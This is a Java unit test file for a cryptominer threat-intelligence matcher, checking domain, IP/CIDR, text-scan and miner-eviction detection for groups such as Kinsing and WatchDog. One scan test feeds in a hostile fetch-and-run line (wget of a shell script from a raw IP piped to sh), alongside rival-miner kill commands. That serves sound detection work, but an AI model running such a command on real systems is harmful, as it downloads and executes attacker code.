package dev.minewarden.core.intel;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class IntelMatcherTest {
  private final IntelMatcher m = IntelStore.bundled().matcher(Ageing.defaults());

  @Test
  void domain_matchesListedNameAndNamesUnderIt() {
    assertThat(m.domain("xmr-eu1.nanopool.org")).extracting(Indicator::value).contains("xmr-eu1.nanopool.org");
    assertThat(m.domain("xmr-zz9.NANOPOOL.org.")).extracting(Indicator::value).containsOnly("nanopool.org");
    assertThat(m.domain("nanopool.org.evil.example")).isEmpty();
    assertThat(m.domain("notnanopool.org")).isEmpty();
    assertThat(m.domain("org")).isEmpty();
  }

  @Test
  void domain_entryUnderAPrivateSuffixDoesNotFlagItsNeighbours() {
    // d1pool.ddns.net is listed; ddns.net is a public (private-registry) suffix
    assertThat(m.domain("x.d1pool.ddns.net")).isNotEmpty();
    assertThat(m.domain("myhome.ddns.net")).isEmpty();
    assertThat(Domains.problem("ddns.net")).contains("public suffix");
  }

  @Test
  void ip_exactAndCidrLongestPrefix() {
    IntelStore s = IntelStore.builder()
        .add(ind(IndicatorType.CIDR, "203.0.113.0/24", "A"))
        .add(ind(IndicatorType.CIDR, "203.0.113.128/25", "B"))
        .add(ind(IndicatorType.IP, "198.51.100.7", "C"))
        .add(ind(IndicatorType.CIDR, "2001:db8::/32", "D"))
        .build();
    IntelMatcher x = s.matcher(Ageing.never());
    assertThat(x.ip("203.0.113.5")).extracting(Indicator::actor).containsExactly("A");
    assertThat(x.ip("203.0.113.200")).extracting(Indicator::actor).containsExactly("B");
    assertThat(x.ip("198.51.100.7")).extracting(Indicator::actor).containsExactly("C");
    assertThat(x.ip("198.51.100.8")).isEmpty();
    assertThat(x.ip("2001:db8:1::5")).extracting(Indicator::actor).containsExactly("D");
    assertThat(x.ip("::ffff:198.51.100.7")).extracting(Indicator::actor).containsExactly("C");
    assertThat(x.ip("203.0.113.05")).as("leading zeros refused").isEmpty();
    assertThat(x.ip("not-an-ip")).isEmpty();
    assertThat(x.ip("[2001:DB8:1::5]")).as("brackets, upper case").extracting(Indicator::actor)
        .containsExactly("D");
    assertThat(x.ip("2001:db8::5%eth0")).as("zone").extracting(Indicator::actor)
        .containsExactly("D");
    assertThat(x.ip("2001:db8:0:0:0:0:0:0:5")).as("nine groups").isEmpty();
    assertThat(x.ip("2001:db8::g")).isEmpty();
    assertThat(x.ip("2001:db8:::5")).isEmpty();
    assertThat(x.ip("2001:db8::" + ":".repeat(40))).isEmpty();
    assertThat(x.ip("2001:db8::1.2.3")).as("short embedded IPv4").isEmpty();
  }

  @Test
  void ip_networksWiderAndNarrowerThanASixteen_andAddressesJustOutside() {
    IntelStore s = IntelStore.builder()
        .add(ind(IndicatorType.CIDR, "100.64.0.0/10", "W"))
        .add(ind(IndicatorType.CIDR, "198.51.100.0/24", "N"))
        .add(ind(IndicatorType.IP, "255.255.255.254", "E"))
        .add(ind(IndicatorType.CIDR, "10.1.2.3/15", "H")) // host bits set: 10.0.0.0/15
        .build();
    IntelMatcher x = s.matcher(Ageing.never());
    assertThat(x.ip("100.64.0.1")).extracting(Indicator::actor).containsExactly("W");
    assertThat(x.ip("100.127.255.255")).extracting(Indicator::actor).containsExactly("W");
    assertThat(x.ip("100.128.0.0")).isEmpty();
    assertThat(x.ip("100.63.255.255")).isEmpty();
    assertThat(x.ip("198.51.100.9")).extracting(Indicator::actor).containsExactly("N");
    assertThat(x.ip("198.51.101.9")).isEmpty();
    assertThat(x.ip("198.50.100.9")).isEmpty();
    assertThat(x.ip("255.255.255.254")).extracting(Indicator::actor).containsExactly("E");
    assertThat(x.ip("255.255.255.253")).isEmpty();
    assertThat(x.ip("10.1.200.1")).extracting(Indicator::actor).containsExactly("H");
    assertThat(x.ip("10.2.0.1")).isEmpty();
    assertThat(x.ip("0.0.0.0")).isEmpty();
  }

  @Test
  void scanText_findsArtefactsWithBoundaries() {
    List<String> hits = new ArrayList<>();
    m.scanText("wget -q -O - http://195.3.146.118/d.sh | sh", i -> hits.add(i.label() + "@" + i.actor()));
    assertThat(hits).contains("filename:d.sh@Kinsing");
    hits.clear();
    m.scanText("/usr/bin/build.sh --fast", i -> hits.add(i.label()));
    assertThat(hits).doesNotContain("filename:d.sh");
  }

  @Test
  void evictionTargets_namesTheGroupWhoseMinerIsKilled() {
    assertThat(m.evictionTargets("pkill -f kdevtmpfsi")).containsExactly("Kinsing");
    assertThat(m.evictionTargets("pkill -f sysupdate; pkill -f phpguard")).containsExactly("WatchDog");
    assertThat(m.evictionTargets("/tmp/kdevtmpfsi -o pool:3333")).as("no removal verb").isEmpty();
    assertThat(m.evictionTargets("systemctl stop NetworkManager")).isEmpty();
  }

  @Test
  void lookup_respectsEventTime() {
    long y2022 = java.time.Instant.parse("2022-05-01T00:00:00Z").toEpochMilli();
    long y2026 = java.time.Instant.parse("2026-05-01T00:00:00Z").toEpochMilli();
    assertThat(m.lookup("185.191.32.198", y2022)).extracting(Indicator::actor).contains("Kinsing");
    assertThat(m.lookup("185.191.32.198", y2026)).isEmpty();
    assertThat(m.lookup("185.191.32.198", Long.MIN_VALUE)).isNotEmpty();
  }

  private static Indicator ind(IndicatorType t, String v, String actor) {
    return new Indicator(t, Indicators.normalise(t, v), actor, "c2", "", List.of("test"),
        Indicator.UNBOUNDED_START, Indicator.UNBOUNDED_END);
  }
}
